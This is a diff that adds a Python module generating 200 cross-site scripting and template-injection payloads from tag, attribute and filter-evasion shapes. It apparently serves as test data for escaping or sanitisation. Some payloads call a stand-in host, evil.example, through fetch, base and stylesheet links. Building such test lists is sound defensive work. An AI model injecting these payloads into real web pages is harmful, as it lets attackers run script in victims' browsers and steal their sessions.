@@ -1,0 +1,48 @@
+"""Two hundred texts that would run, or break out, where a page shows them as anything but text."""
+
+from __future__ import annotations
+
+_CALLS = ("window.__ran=1", "alert(1)", "top.__ran=1", "fetch('//evil.example')", "document.title='ran'")
+_SHAPES = (
+    "<script>{call}</script>",
+    "</script><script>{call}</script>",
+    "</title><script>{call}</script>",
+    "</textarea><script>{call}</script>",
+    "</style><script>{call}</script>",
+    "</svg><script>{call}</script>",
+    "<img src=x onerror={call}>",
+    '"><img src=x onerror={call}>',
+    "'><img src=x onerror={call}>",
+    "<svg onload={call}>",
+    "<svg><script>{call}</script></svg>",
+    "<svg><animate onbegin={call} attributeName=x dur=1s>",
+    "<body onload={call}>",
+    "<input autofocus onfocus={call}>",
+    "<details open ontoggle={call}>",
+    "<iframe srcdoc='<script>{call}</script>'></iframe>",
+    '<iframe src="javascript:{call}"></iframe>',
+    '<a href="javascript:{call}">x</a>',
+    '" onmouseover="{call}" autofocus onfocus="{call}',
+    "' onmouseover='{call}' autofocus onfocus='{call}",
+    "javascript:{call}",
+    "JaVaScRiPt:{call}",
+    "data:text/html,<script>{call}</script>",
+    "<math><mtext><script>{call}</script></mtext></math>",
+    "<object data='javascript:{call}'></object>",
+    "<embed src='javascript:{call}'>",
+    "<form action='javascript:{call}'><button autofocus>x</button></form>",
+    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
+    "<base href='//evil.example/'><script src=x onload={call}></script>",
+    "<link rel=stylesheet href='//evil.example/{call}'>",
+    "<video><source onerror={call}></video>",
+    "<marquee onstart={call}>",
+    "{{{{ {call} }}}}",
+    "${{{call}}}",
+    "<%= {call} %>",
+    "{{%{{ {call} }}%}}",
+    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
+    "&lt;script&gt;{call}&lt;/script&gt;",
+    "<scr<script>ipt>{call}</scr</script>ipt>",
+    "<!--><script>{call}</script>-->",
+)
+PAYLOADS = tuple(shape.format(call=call) for shape in _SHAPES for call in _CALLS)
